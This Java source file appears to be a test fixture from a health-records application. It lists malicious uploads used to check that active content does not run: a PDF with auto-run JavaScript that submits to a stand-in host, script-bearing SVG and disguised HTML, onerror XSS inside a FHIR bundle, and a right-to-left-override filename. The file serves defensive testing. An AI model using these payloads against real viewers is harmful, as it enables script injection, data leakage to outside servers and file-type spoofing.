// SPDX-License-Identifier: Apache-2.0
package org.carevault.journeys;

import static java.nio.charset.StandardCharsets.UTF_8;

/** Documents that try to do something: each marks the page that runs it, and asks a stranger's server. */
enum MaliciousDocument {
    PDF_WITH_A_SCRIPT("report.pdf", "application/pdf", """
            %PDF-1.7
            1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /AA << /WC 4 0 R >> >> endobj
            2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj
            3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /AA << /O 4 0 R >> >> endobj
            4 0 obj << /S /JavaScript /JS (app.alert('touched'); app.launchURL('http://stranger.invalid/'); this.submitForm('http://stranger.invalid/')) >> endobj
            trailer << /Root 1 0 R >>
            """),
    SVG_WITH_A_SCRIPT("picture.svg", "image/svg+xml", """
            <svg xmlns="http://www.w3.org/2000/svg" onload="window.touched=1">
              <script>window.touched = 1; top.touched = 1; fetch('http://stranger.invalid/')</script>
              <image href="http://stranger.invalid/a.png" onerror="window.touched=1"/>
            </svg>
            """),
    HTML_THAT_CALLS_ITSELF_A_PICTURE("picture.png", "image/png", """
            <!doctype html><script>window.touched = 1; top.touched = 1</script>
            <img src="http://stranger.invalid/a.png" onerror="window.touched=1"><iframe src="http://stranger.invalid/"></iframe>
            """),
    FHIR_WITH_MARKUP_IN_ITS_TEXT("bundle.json", "application/fhir+json", """
            {"resourceType":"Bundle","type":"document","entry":[{"resource":{"resourceType":"Condition",
            "text":{"status":"generated","div":"<div><img src='http://stranger.invalid/a.png' onerror='window.touched=1'></div>"},
            "code":{"text":"<img src=x onerror='window.touched=1'>asthma"}}}]}
            """),
    A_TITLE_THAT_TURNS_THE_LINE_AROUND("fdp.\u202Etropér.pdf", "application/pdf", "%PDF-1.4\n\u202Enothing to see");

    private final String fileName;
    private final String type;
    private final String content;

    MaliciousDocument(String fileName, String type, String content) {
        this.fileName = fileName;
        this.type = type;
        this.content = content;
    }

    String fileName() {
        return fileName;
    }

    String type() {
        return type;
    }

    byte[] bytes() {
        return content.getBytes(UTF_8);
    }
}
